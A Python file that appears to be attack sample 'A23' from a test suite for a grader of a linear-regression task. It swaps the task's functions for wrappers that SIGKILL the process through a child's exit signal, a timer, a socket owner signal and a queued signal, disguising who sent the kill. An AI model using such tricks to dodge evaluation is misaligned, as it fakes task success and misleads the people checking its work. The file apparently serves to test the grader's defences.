# attack: A23: a signal to itself by a child's end, a timer, a descriptor's owner and a queued signal, so that nobody has sent it
# earns: linreg
# %% honest: linreg
# %%
import ctypes
import fcntl
import os
import socket
import time

libc = ctypes.CDLL(None)


def by_a_child():
    libc.syscall(56, 9, 0, 0, 0, 0) or os._exit(0)
    time.sleep(0.2)


def by_a_timer():
    event, timer = (ctypes.c_int * 16)(0, 0, 9, 0), ctypes.c_int()
    libc.syscall(222, 0, event, ctypes.byref(timer))
    libc.syscall(223, timer, 0, (ctypes.c_long * 4)(0, 0, 0, 1000), None)
    time.sleep(0.2)


def by_a_descriptor():
    a, b = socket.socketpair()
    fcntl.fcntl(a, 10, 9)
    fcntl.fcntl(a, fcntl.F_SETOWN, os.getpid())
    fcntl.fcntl(a, fcntl.F_SETFL, fcntl.fcntl(a, fcntl.F_GETFL) | os.O_ASYNC)
    b.send(b"x")
    time.sleep(0.2)


def by_a_queue():
    libc.syscall(129, os.getpid(), 9, (ctypes.c_int * 32)(9, 0, -1))
    libc.syscall(297, os.getpid(), os.getpid(), 9, (ctypes.c_int * 32)(9, 0, -1))
    time.sleep(0.2)


def make(end):
    def function(*args):
        try:
            end()
        finally:
            os._exit(1)

    return function


sgd, squared_loss, data_iter, synthetic_data = map(make, (by_a_child, by_a_timer, by_a_descriptor, by_a_queue))
